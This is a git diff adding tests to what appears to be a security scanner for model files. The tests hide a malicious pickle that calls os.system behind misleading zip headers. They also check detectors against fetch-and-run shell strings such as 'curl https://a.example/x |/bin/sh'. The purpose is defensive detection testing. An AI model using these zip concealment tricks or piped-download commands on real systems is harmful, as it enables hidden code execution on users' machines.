@@ -7,6 +7,11 @@ import base64
 import json
 import re
 import tracemalloc
+import zlib
+from collections.abc import Iterable
+from re._constants import MAXREPEAT  # type: ignore[import-not-found]
+from re._parser import parse as parse_form  # type: ignore[import-not-found]
+from typing import Any
 
 import pytest
 from hypothesis import given
@@ -19,6 +24,7 @@ from modelsweep.core.reader import MemoryReader
 from modelsweep.core.report import UnitResult, Verdict
 from modelsweep.core.scanner import Blob, Context
 from modelsweep.core.units import MIB
+from scanners import json_config
 from scanners import zip as zip_scanner
 from scanners.concealment import MANY, concealer
 from scanners.detectors import encoded, hidden_text
@@ -31,6 +37,7 @@ from scanners.parsing.python_unparsed import without_texts
 from scanners.parsing.zip_directory import read_directory
 from tests.bombs import central, deflated, end, local
 from tests.scanners.case import examine_bytes
+from tests.scanners.pickle.assembler import EVIL_PICKLE
 from tests.scanners.spool import memory_spool
 
 LIMIT = ProblemKind.LIMIT
@@ -145,6 +152,47 @@ def test_a_long_local_header_that_members_share_is_read_once() -> None:
     items = list(zip_scanner.scan(Blob(Locator("a.zip"), reader).with_head(), spent))
     assert reader.bytes_read < 20 * len(data)
     assert any(isinstance(item, Problem) and "which share them" in item.detail for item in items)
+
+
+ALL = 0xFFFFFFF0
+"""Bytes that a member claims, which is all of any file."""
+
+
+def _pickle_behind(first: bytes, listed: bytes, method: int) -> bytes:
+    """Return a zip with a pickle behind members whose headers say what nobody has to believe.
+
+    Another one claims all of the file, so that nothing stands between members.
+    """
+    packed = zlib.compress(EVIL_PICKLE, wbits=-zlib.MAX_WBITS) if method else EVIL_PICKLE
+    stated = len(packed), len(EVIL_PICKLE), method
+    entries = central(b"all", ALL, ALL) + listed + central(b"m/data.pkl", *stated, len(first))
+    return _zip(first + local(b"m/data.pkl", *stated) + packed, entries, entries.count(b"PK\1\2"))
+
+
+def _places_of_calls(data: bytes) -> set[tuple[str, str]]:
+    result = examine_bytes(data, "m.pt")
+    assert result.problems
+    return {(item.subject, str(item.locator)) for item in result.findings}
+
+
+def test_no_header_that_claims_more_than_the_file_has_hides_the_members_behind_it() -> None:
+    whole, claiming = local(b"a", 1, 1) + b"x", bytearray(local(b"b", 1, 1) + b"x")
+    claiming[28:30] = b"\xff\xff"  # of an extra field that is not there
+    listed = central(b"b", 1, 1, offset=len(whole))
+    assert ("os.system", "m.pt!m/data.pkl") in _places_of_calls(_pickle_behind(whole + claiming, listed, 8))
+
+
+def test_no_long_headers_hide_the_members_behind_them() -> None:
+    covering = local(b"n" * 60_000, 1, 1) + b"x"
+    listed = central(b"a", 1, 1) + central(b"b", 1, 1)
+    assert ("os.system", "m.pt!m/data.pkl") in _places_of_calls(_pickle_behind(covering, listed, 8))
+
+
+@pytest.mark.parametrize("claimed", [400, ALL])
+def test_no_member_that_claims_all_of_the_file_hides_those_inside_it(claimed: int) -> None:
+    first = local(b"a", 1, 1) + local(b"b", 1, 1) + b"x"
+    listed = central(b"b", claimed, claimed, offset=31)
+    assert ("os.system", "m.pt!m/data.pkl") in _places_of_calls(_pickle_behind(first, listed, 0))
 
 
 def test_the_beginning_is_all_that_is_inflated_of_the_target_of_a_link() -> None:
@@ -309,6 +357,45 @@ def test_parts_of_commands_are_looked_for_as_often_as_there_are_words(word: str)
         assert searches[1] <= 2 * searches[0] + 2
 
 
+def _begins_anywhere(form: Iterable[Any]) -> bool:
+    """Return whether a form may begin with a run of any length: in one long run it is read from each character."""
+    for operator, argument in form:
+        name = str(operator)
+        if name == "MAX_REPEAT" and argument[1] == MAXREPEAT:
+            return True
+        if name == "MAX_REPEAT":
+            if _begins_anywhere(argument[2]):
+                return True
+            if argument[0] == 0:
+                continue
+        if name == "SUBPATTERN":
+            return _begins_anywhere(argument[-1])
+        return name == "BRANCH" and any(map(_begins_anywhere, argument[1]))
+    return False
+
+
+def test_commands_begin_with_no_run_that_is_read_from_each_of_its_characters() -> None:
+    assert _begins_anywhere(parse_form(r"(?:sudo\s+)?(?:\S*/)?sh"))
+    for commands in (attack_commands.attack_command(), attack_commands.fetched_command()):
+        for form in (*commands.forms, *attack_commands.hostile_command().forms):
+            assert not any(_begins_anywhere(parse_form(part.pattern)) for part in attack_commands._Chain(form).parts)
+
+
+@pytest.mark.parametrize(
+    "command", ["|/bin/sh", "| sudo /a|b/bash", ";x|/bin/sh", "&& a/sh", "<(curl a)", "; /usr/bin/python3 a"]
+)
+def test_a_shell_is_one_whatever_its_path(command: str) -> None:
+    where = "" if command.startswith("<") else "curl https://a.example/x "
+    assert attack_commands.fetched_command().search(f"{where or 'source '}{command}")
+
+
+@pytest.mark.parametrize("path", ["", "/bin/", "x=/bin/", "(/usr/bin/"])
+def test_a_command_is_shown_from_where_the_path_of_its_shell_begins(path: str) -> None:
+    found = attack_commands.fetched_command().search(f"then {path}sh $(curl https://a.example/x)")
+    assert found
+    assert found.start == len("then ")
+
+
 QUOTES = ('"', "'", '"""', "'''", '""', "''", "\\")
 CODE = st.lists(st.sampled_from([*QUOTES, "\n", "a", "#", "f", "rb", " = "]), max_size=25)
 TEXTS = re.compile(
@@ -320,6 +407,31 @@ TEXTS = re.compile(
 def test_texts_in_code_are_those_that_one_pattern_finds(source: str) -> None:
     expected = TEXTS.sub(lambda match: "" if match[0][0] == "#" else '""' + "\n" * match[0].count("\n"), source)
     assert without_texts(source) == expected
+
+
+class _Watched(bytes):
+    """Bytes that count how often something is looked for in all of them."""
+
+    looked = 0
+
+    def __contains__(self, what: object) -> bool:
+        _Watched.looked += 1
+        return super().__contains__(what)  # type: ignore[operator]
+
+
+class _WatchedReader(MemoryReader):
+    def read(self, offset: int, length: int) -> bytes:
+        return _Watched(super().read(offset, length))
+
+
+def test_what_a_whole_file_holds_is_not_looked_for_again_in_each_of_its_documents() -> None:
+    looked = {}
+    for count in (100, 200):
+        blob = Blob(Locator("a.jsonl"), _WatchedReader(b'{"_target_": "a.B", "b": 1}\n' * count)).with_head()
+        _Watched.looked = 0
+        assert len(list(json_config.scan(blob, context(blob.size)))) >= count
+        looked[count] = _Watched.looked
+    assert looked[100] == looked[200] > 0
 
 
 NESTED: dict[str, tuple[str, str]] = {
